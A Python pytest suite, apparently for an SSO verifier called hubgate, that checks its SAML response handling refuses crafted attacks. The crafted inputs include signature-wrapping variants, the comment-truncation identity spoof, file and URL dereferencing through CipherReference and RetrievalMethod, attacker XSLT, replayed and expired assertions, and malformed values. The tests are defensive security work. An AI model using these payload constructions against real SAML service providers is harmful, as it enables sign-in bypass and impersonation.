    """An encoding declaration libxml2 does not know."""
    return encode(b'<?xml version="1.0" encoding="x-klingon"?><samlp:Response/>')


@attack(errors.MalformedResponse)
def deeply_nested_elements(forge: SamlForge) -> str:
    """Ten thousand nested elements (stack exhaustion in recursive code)."""
    root = forge.tree()
    nested = "<a>" * 10_000 + "</a>" * 10_000
    text = serialize(root).replace(b"</samlp:Status>", nested.encode() + b"</samlp:Status>")
    return encode(text)


@attack(errors.MalformedResponse)
def non_ascii_inside_base64(forge: SamlForge) -> str:
    """Characters outside the base64 alphabet slipped into the value must not be
    silently dropped (a strict decoder refuses them)."""
    encoded = forge.response()
    return encoded[:100] + "\u00e9\u200b" + encoded[100:]


@attack(errors.UnexpectedStructure)
def xml_that_is_not_a_response(forge: SamlForge) -> str:
    """Well-formed XML of another kind (a LogoutResponse)."""
    return encode(
        b'<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x"/>'
    )


# XSW1, XSW6 and XSW8 nest the original inside the Signature itself; the
# enveloped-signature transform as xmlsec implements it drops the Signature with
# all its descendants, so against xmlsec they fail on the digest already (they
# target verifiers with a laxer enveloped transform). The others are live.
INSIDE_SIGNATURE = ("xsw1-", "xsw6-", "xsw8-")
LIVE_WRAPPING = [
    case
    for case in ATTACKS
    if case.name.startswith(("xsw", "wrapping")) and not case.name.startswith(INSIDE_SIGNATURE)
]


@pytest.mark.parametrize("case", LIVE_WRAPPING, ids=lambda case: case.name)
def test_wrapping_attacks_keep_a_genuine_signature(case: Attack, forge: SamlForge) -> None:
    """The wrapping attacks are live: every Signature still verifies with the IdP's key
    over an element its Reference names (the intact original), so only the
    verifier's structural checks stand between them and a sign-in."""
    root = etree.fromstring(base64.b64decode(case.build(forge)))
    signatures = list(root.iter(f"{{{NS['ds']}}}Signature"))
    assert signatures
    for signature in signatures:
        uri = find(signature, "ds:SignedInfo/ds:Reference").get("URI")
        candidates = [node for node in root.iter() if f"#{node.get('ID')}" == uri]
        assert any(_verifies_over(signature, node, forge.keys) for node in candidates)


def _verifies_over(signature: etree._Element, target: etree._Element, keys: Keys) -> bool:
    """xmlsec on one candidate, in a copy of the document where only it has the ID."""
    original = list(signature.getroottree().getroot().iter())
    nodes = list(copy.deepcopy(original[0]).iter())
    signature_copy = nodes[original.index(signature)]
    target_copy = nodes[original.index(target)]
    for node in nodes:
        if node is not target_copy and node.get("ID") == target.get("ID"):
            node.set("ID", "_renamed")
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_memory(
        keys.idp.cert_pem.encode(), xmlsec.constants.KeyDataFormatCertPem
    )
    context.register_id(target_copy, "ID")
    try:
        context.verify(signature_copy)
    except xmlsec.Error:
        return False
    return True


@pytest.mark.parametrize("case", ATTACKS, ids=lambda case: case.name)
def test_attack_is_refused(case: Attack, forge: SamlForge, keys: Keys) -> None:
    """Each attack above meets exactly the refusal it names."""
    refused(case.expected, case.build(forge), config_for(keys, **case.config))


# --- attacks that need a clock, a cache or a setting ----------------------------------


def test_response_arriving_too_late_is_expired(forge: SamlForge, config: SamlConfig) -> None:
    """A response posted after every window (Conditions and bearer) closed, past the
    skew: the most common real failure (a slow browser, a wrong clock). The admin
    must see 'expired', whichever window the verifier looks at first."""
    late = NOW + timedelta(minutes=5) + SKEW
    refused(errors.AssertionExpired, forge.response(), config, now=late)


def test_expiry_boundaries(forge: SamlForge, config: SamlConfig) -> None:
    """NotOnOrAfter is exclusive; the skew extends both ends of the window."""
    encoded = forge.response()
    last_moment = NOW + timedelta(minutes=5) + SKEW - timedelta(microseconds=1)
    assert verify(encoded, config, now=last_moment).subject.startswith("ada")
    with pytest.raises((errors.AssertionExpired, errors.SubjectConfirmationInvalid)):
        verify(encoded, config, now=last_moment + timedelta(microseconds=1))


def test_not_yet_valid_boundaries(forge: SamlForge, config: SamlConfig) -> None:
    """A response from an IdP whose clock runs ahead: accepted within the skew."""
    encoded = forge.response()
    not_before = NOW - timedelta(seconds=5)
    assert verify(encoded, config, now=not_before - SKEW).subject.startswith("ada")
    refused(
        errors.AssertionNotYetValid,
        encoded,
        config,
        now=not_before - SKEW - timedelta(microseconds=1),
        replay=MemoryReplay(),
    )


def test_replayed_response_is_refused(forge: SamlForge, config: SamlConfig) -> None:
    """Replay: the same response posted twice (browser history, a proxy log)."""
    encoded = forge.response()
    replay = MemoryReplay()
    verify(encoded, config, replay=replay)
    refused(errors.AssertionReplayed, encoded, config, replay=replay)


def test_replayed_assertion_in_a_new_response_is_refused(
    forge: SamlForge, config: SamlConfig
) -> None:
    """Replay with a fresh unsigned Response (new ID) around the same signed Assertion."""
    root = forge.tree()
    replay = MemoryReplay()
    verify(encode(root), config, replay=replay)
    root.set("ID", "_fresh_response")
    refused(errors.AssertionReplayed, encode(root), config, replay=replay)


def test_replay_is_remembered_as_long_as_the_assertion_is_valid(
    forge: SamlForge, config: SamlConfig
) -> None:
    """The cache entry must outlive the last instant the assertion is accepted
    (NotOnOrAfter + skew), or a later replay slips through."""
    replay = MemoryReplay()
    verify(forge.response(), config, replay=replay)
    [(key, expires_at)] = replay.seen.items()
    assert expires_at >= NOW + timedelta(minutes=5) + SKEW


def test_idp_initiated_refused_when_not_allowed(forge: SamlForge, config: SamlConfig) -> None:
    """An unsolicited response (no request in this browser) on a connection that does
    not allow IdP-initiated sign-in (login CSRF)."""
    claims = forge.claims(in_response_to=None, confirmation_in_response_to=None)
    refused(errors.UnsolicitedResponse, forge.response(claims), config, request_id=None)


def test_idp_initiated_with_in_response_to_refused_when_not_allowed(
    forge: SamlForge, config: SamlConfig
) -> None:
    """A solicited response (for some other browser's request) delivered to a browser
    that started none, on a connection without IdP-initiated sign-in."""
    refused(errors.UnsolicitedResponse, forge.response(), config, request_id=None)


def test_idp_initiated_accepted_when_allowed(forge: SamlForge, keys: Keys) -> None:
    config = config_for(keys, allow_idp_initiated=True)
    claims = forge.claims(in_response_to=None, confirmation_in_response_to=None)
    assert verify(forge.response(claims), config, request_id=None).subject.startswith("ada")


def test_idp_initiated_with_in_response_to_refused_when_allowed(
    forge: SamlForge, keys: Keys
) -> None:
    """IdP-initiated is allowed, but this response answers a request this browser did
    not start (a stolen SP-initiated response)."""
    config = config_for(keys, allow_idp_initiated=True)
    refused(errors.InResponseToMismatch, forge.response(), config, request_id=None)


def test_encryption_required_refuses_a_plain_assertion(forge: SamlForge, keys: Keys) -> None:
    config = config_for(keys, want_encrypted_assertions=True)
    refused(errors.EncryptionRequired, forge.response(), config)
    assert verify(forge.response(encrypt={}), config).subject.startswith("ada")


def test_encrypted_unsigned_assertion_in_signed_response(forge: SamlForge, keys: Keys) -> None:
    """Allowed only when the connection accepts Response-level signatures."""
    encoded = forge.response(sign_assertion=False, sign_response=True, encrypt={})
    refused(errors.SignatureMissing, encoded, config_for(keys))
    lenient = config_for(keys, want_assertions_signed=False)
    assert verify(encoded, lenient).subject == "ada.lovelace@acme.example"


def test_oversized_response_refused_before_decoding(forge: SamlForge, keys: Keys) -> None:
    """A body over max_response_bytes is refused on its length, not after base64/XML
    work (garbage of that size gives saml_too_large, not saml_malformed)."""
    encoded = forge.response()
    refused(errors.ResponseTooLarge, "!" * 4097, config_for(keys, max_response_bytes=4096))
    exact = config_for(keys, max_response_bytes=len(encoded))
    assert verify(encoded, exact).subject.startswith("ada")
    refused(errors.ResponseTooLarge, encoded, config_for(keys, max_response_bytes=len(encoded) - 1))


@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "encrypted"])
@pytest.mark.parametrize("where", ["nameid", "email", "group"])
def test_comment_truncation_does_not_shorten_the_identity(
    forge: SamlForge, config: SamlConfig, where: str, encrypted: bool
) -> None:
    """Duo Labs 2018 (CVE-2017-11427...): the attacker owns
    ``admin@acme.example.evil.example`` at the IdP, then inserts ``<!---->`` after
    ``admin@acme.example``. Exclusive c14n drops comments, so the signature still
    verifies; an SP reading only the first text node becomes ``admin@acme.example``.
    hubgate reads the whole text: the identity stays the attacker's own. (Encrypted:
    the decrypted Assertion is parsed by xmlsec, not by hubgate's parser, so the
    comment is still there when the claims are read.)"""
    full, truncated = "admin@acme.example.evil.example", "admin@acme.example"
    root = forge.tree(forge.claims(name_id=full, email=full, groups=(*GROUPS[:3], full)))
    if where == "nameid":
        target = find(root, NAME_ID)
    else:
        values = root.iterfind(".//saml:Attribute/saml:AttributeValue", NS)
        target = next(
            v
            for v in values
            if v.text == full and (where == "email") == (v.getparent().get("Name") == "email")
        )
    target.text = truncated
    comment = etree.Comment("")
    comment.tail = ".evil.example"
    target.append(comment)
    if encrypted:
        encrypt_assertion(root, forge.keys.sp)
    identity = verify(encode(root), config)
    assert identity.subject == full
    assert identity.email == full
    assert truncated not in identity.groups
    assert identity.groups[-1] == full


# --- no file or URL is ever opened on behalf of a response ---------------------------
#
# XML Encryption lets EncryptedData point at its ciphertext (xenc:CipherReference)
# or at its key (ds:RetrievalMethod) by URI, and xmlsec dereferences such URIs with
# libxml2's I/O. Decryption runs before any signature on the Assertion is
# checked, so an anonymous POST could make hubgate open local files (/dev/zero:
# memory grows without bound) or URLs. The probe is a FIFO: opening it is seen by a
# writer thread, which then writes a few bytes and closes so nothing blocks.


@contextmanager
def probe_file(tmp_path: Path) -> Iterator[tuple[str, list[bool]]]:
    """A file:// URI and a list that gets an entry if anything opens the file."""
    fifo = tmp_path / "probe.fifo"
    os.mkfifo(fifo)
    opened: list[bool] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            try:
                descriptor = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # ENXIO: nobody has it open for reading
                time.sleep(0.001)
                continue
            opened.append(True)
            os.write(descriptor, b"A" * 64)
            os.close(descriptor)
            return

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        yield fifo.as_uri(), opened
    finally:
        stop.set()
        watcher.join(timeout=2)


def _cipher_reference(root: etree._Element, uri: str) -> None:
    cipher_data = find(root, ".//xenc:EncryptedData/xenc:CipherData")
    cipher_data.remove(find(cipher_data, "xenc:CipherValue"))
    etree.SubElement(cipher_data, f"{{{NS['xenc']}}}CipherReference").set("URI", uri)


def _key_retrieval(root: etree._Element, uri: str) -> None:
    key_info = find(root, ".//xenc:EncryptedData/ds:KeyInfo")
    key_info.remove(find(key_info, "xenc:EncryptedKey"))
    retrieval = etree.SubElement(key_info, f"{{{NS['ds']}}}RetrievalMethod")
    retrieval.set("URI", uri)
    retrieval.set("Type", "http://www.w3.org/2001/04/xmlenc#EncryptedKey")


def _signature_key_retrieval(root: etree._Element, uri: str) -> None:
    key_info = find(root, "saml:Assertion/ds:Signature/ds:KeyInfo")
    etree.SubElement(key_info, f"{{{NS['ds']}}}RetrievalMethod").set("URI", uri)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs a POSIX FIFO")
@pytest.mark.parametrize(
    ("edit", "options", "expected"),
    [
        pytest.param(
            _cipher_reference, {"encrypt": {}}, errors.DecryptionFailed, id="cipher-reference"
        ),
        pytest.param(
            _key_retrieval, {"encrypt": {}}, errors.DecryptionFailed, id="encrypted-key-retrieval"
        ),
        pytest.param(
            _signature_key_retrieval, {"key_info": True}, None, id="signature-key-retrieval"
        ),
    ],
)
def test_uris_in_the_response_are_never_dereferenced(
    forge: SamlForge,
    config: SamlConfig,
    tmp_path: Path,
    edit: Callable[[etree._Element, str], None],
    options: dict[str, Any],
    expected: type[SamlError] | None,
) -> None:
    root = forge.tree(**options)
    with probe_file(tmp_path) as (uri, opened):
        edit(root, uri)
        if expected is None:  # KeyInfo is ignored: the IdP's own response verifies
            assert verify(encode(root), config).subject.startswith("ada")
        else:
            refused(expected, encode(root), config)
    assert not opened, f"verify_response opened {uri}"


XSL = "http://www.w3.org/1999/XSL/Transform"


def test_xslt_in_a_cipher_reference_never_runs(
    forge: SamlForge, config: SamlConfig, capfd: pytest.CaptureFixture[str]
) -> None:
    """A same-document CipherReference (``URI=""``) whose Transforms hold an XSLT
    stylesheet: running attacker XSLT before any signature is checked is a CPU
    denial of service at best. The probe is an xsl:message libxslt prints to stderr."""
    root = forge.tree(sign_assertion=False, encrypt={})
    _cipher_reference(root, "")
    reference = find(root, ".//xenc:CipherReference")
    transforms = etree.SubElement(reference, f"{{{NS['xenc']}}}Transforms")
    transform = etree.SubElement(transforms, f"{{{NS['ds']}}}Transform")
    transform.set("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
    stylesheet = etree.SubElement(transform, f"{{{XSL}}}stylesheet", nsmap={"xsl": XSL})
    stylesheet.set("version", "1.0")
    template = etree.SubElement(stylesheet, f"{{{XSL}}}template", match="/")
    etree.SubElement(template, f"{{{XSL}}}message").text = "hubgate-xslt-probe"
    refused(errors.DecryptionFailed, encode(root), config)
    assert "hubgate-xslt-probe" not in capfd.readouterr().err


# --- hostile values inside a genuinely signed assertion -------------------------------
#
# The IdP signs whatever its users or admins typed (display names, group names) and
# some IdPs write odd timestamps; none of it may crash the verifier. Each case
# names the outcome it expects: an Identity, or a refusal with one code.

FAR_FUTURE = "9999-12-31T23:59:59Z"


def _drop(path: str) -> Callable[[etree._Element], None]:
    def edit(response: etree._Element) -> None:
        node = find(response, path)
        node.getparent().remove(node)

    return edit


def _nest_in_name_id(response: etree._Element) -> None:
    name_id = find(response, NAME_ID)
    etree.SubElement(name_id, f"{{{NS['saml']}}}NameID").text = "x"


def _attributes(count: int, value: str = "v") -> Callable[[etree._Element], None]:
    """``count`` more Attributes of one value each in the AttributeStatement."""

    def edit(response: etree._Element) -> None:
        statement = find(response, "saml:Assertion/saml:AttributeStatement")
        for n in range(count):
            attribute = etree.SubElement(statement, f"{{{NS['saml']}}}Attribute", Name=f"a{n}")
            etree.SubElement(attribute, f"{{{NS['saml']}}}AttributeValue").text = value

    return edit


def _misplaced(path: str, *, into: str) -> Callable[[etree._Element], None]:
    """A copy of the part at ``path``, telling another story, where SAML core does not
    put it (first inside ``into``, so before the genuine part in document order when
    ``into`` comes first): the verifier must not read it."""

    def edit(response: etree._Element) -> None:
        copied = copy.deepcopy(find(response, path))
        make_evil(copied)
        for audience in copied.iter(f"{{{NS['saml']}}}Audience"):
            audience.text = "https://evil.example"
        find(response, into).insert(0, copied)

    return edit


def case(name: str, expected: Any, edit: Any = None, **overrides: Any) -> Any:
    """One hostile value: claim overrides (``times`` = raw timestamp text by field),
    an edit made before the IdP signs, and "ok" or the expected error class."""
    return pytest.param(overrides, edit, expected, id=name)


def times(**raw: str) -> dict[str, str]:
    return raw


F7 = "2025-06-02T09:{}.1234567Z"  # Entra ID writes seven fractional digits
HOSTILE = [
    # An assertion may claim at most a day of validity: the replay record must
    # outlive it, so a far-future NotOnOrAfter is refused (and never overflows).
    case(
        "far-future-not-on-or-after",
        errors.SubjectConfirmationInvalid,
        times=times(not_on_or_after=FAR_FUTURE),
    ),
    case(
        "far-future-everywhere",
        errors.SubjectConfirmationInvalid,
        times=times(
            not_on_or_after=FAR_FUTURE,
            confirmation_not_on_or_after=FAR_FUTURE,
            session_not_on_or_after=FAR_FUTURE,
        ),
    ),
    case(
        "far-future-negative-offset",
        errors.SubjectConfirmationInvalid,
        times=times(confirmation_not_on_or_after="9999-12-31T23:59:59-12:00"),
    ),
    case("year-one-not-before", "ok", times=times(not_before="0001-01-01T00:00:00Z")),
    case("year-one-positive-offset", "ok", times=times(not_before="0001-01-01T00:00:00+14:00")),
    case(
        "entra-seven-digit-fractions",
        "ok",
        times=times(
            not_before=F7.format("29:55"),
            not_on_or_after=F7.format("59:00"),
            confirmation_not_on_or_after=F7.format("35:00"),
            authn_instant=F7.format("29:30"),
        ),
    ),
    case("offset-instead-of-z", "ok", times=times(not_on_or_after="2025-06-02T11:35:00+02:00")),
    case(
        "naive-timestamp",
        errors.MalformedResponse,
        times=times(not_on_or_after="2025-06-02T09:35:00"),
    ),
    case(
        "garbage-timestamp",
        errors.MalformedResponse,
        times=times(confirmation_not_on_or_after="tomorrow"),
    ),
    case("impossible-date", errors.MalformedResponse, times=times(not_before="2025-02-30T00:00Z")),
    case(
        "five-digit-year",
        errors.MalformedResponse,
        times=times(not_on_or_after="10000-01-01T00:00:00Z"),
    ),
    case("garbage-authn-instant", errors.MalformedResponse, times=times(authn_instant="soon")),
    case("empty-name-id", errors.MalformedResponse, name_id=""),
    case("blank-name-id", errors.MalformedResponse, name_id=" \n\t "),
    case("huge-name-id", errors.MalformedResponse, name_id="a" * 5000 + "@acme.example"),
    case(
        "unicode-name-id",
        "ok",
        name_id="\u202eelpmaxe.emca@nimda\u200b",
        display_name="\U0001f600" * 50,
    ),
    case("no-email-no-name-no-groups", "ok", email=None, display_name=None, groups=()),
    case("thousand-groups", "ok", groups=tuple(f"g{i}" for i in range(1000))),
    case("too-many-groups", errors.MalformedResponse, groups=tuple(f"g{i}" for i in range(1001))),
    case("empty-status", errors.StatusNotSuccess, status=""),
    case("huge-assertion-id", errors.UnexpectedStructure, assertion_id="_" + "a" * 300),
    case("many-audiences", "ok", audiences=("a", "", SP_ENTITY_ID, "b" * 1000)),
    case("no-response-issuer", "ok", response_issuer=None),
    case("no-destination-unsigned-response", "ok", destination=None),
    case("no-subject", errors.SubjectConfirmationInvalid, _drop("saml:Assertion/saml:Subject")),
    case("no-conditions", errors.UnexpectedStructure, _drop("saml:Assertion/saml:Conditions")),
    case("no-attribute-statement", "ok", _drop("saml:Assertion/saml:AttributeStatement")),
    case("no-authn-statement", "ok", _drop("saml:Assertion/saml:AuthnStatement")),
    case("no-name-id", errors.MalformedResponse, _drop(NAME_ID)),
    case("name-id-with-child-element", "ok", _nest_in_name_id),
    # 3 Attributes come with the claims: 97 more make the most allowed, 98 one too many.
    case("a-hundred-attributes", "ok", _attributes(97)),
    case("too-many-attributes", errors.MalformedResponse, _attributes(98)),
    case("longest-attribute-value", "ok", _attributes(1, "v" * 1024)),
    case("too-long-attribute-value", errors.MalformedResponse, _attributes(1, "v" * 1025)),
]


@pytest.mark.parametrize(
    ("path", "into"),
    [
        ("saml:Assertion/saml:Subject", "saml:Assertion/saml:Subject"),
        ("saml:Assertion/saml:AttributeStatement", "saml:Assertion/saml:Subject"),
        ("saml:Assertion/saml:Conditions", "saml:Assertion/saml:AuthnStatement"),
        ("saml:Assertion/saml:Issuer", "saml:Assertion/saml:Subject"),
    ],
    ids=["subject", "attributes", "conditions", "issuer"],
)
def test_parts_where_saml_does_not_put_them_are_not_read(
    forge: SamlForge, config: SamlConfig, path: str, into: str
) -> None:
    """Only the Assertion's own Subject, Conditions, Issuer and AttributeStatement
    speak: a signed copy nested elsewhere (an extension point, say) changes nothing."""
    encoded = forge.response(before_signing=_misplaced(path, into=into))
    identity = verify(encoded, config)
    assert identity.subject == "ada.lovelace@acme.example"
    assert (identity.email, identity.groups) == ("ada.lovelace@acme.example", GROUPS)


@pytest.mark.parametrize(("overrides", "edit", "expected"), HOSTILE)
def test_hostile_values_never_crash(
    forge: SamlForge,
    config: SamlConfig,
    overrides: dict[str, Any],
    edit: Callable[[etree._Element], None] | None,
    expected: Any,
) -> None:
    encoded = forge.response(forge.claims(**overrides), before_signing=edit)
    if expected == "ok":
        identity = verify(encoded, config)
        assert isinstance(identity, Identity)
    else:
        refused(expected, encoded, config)
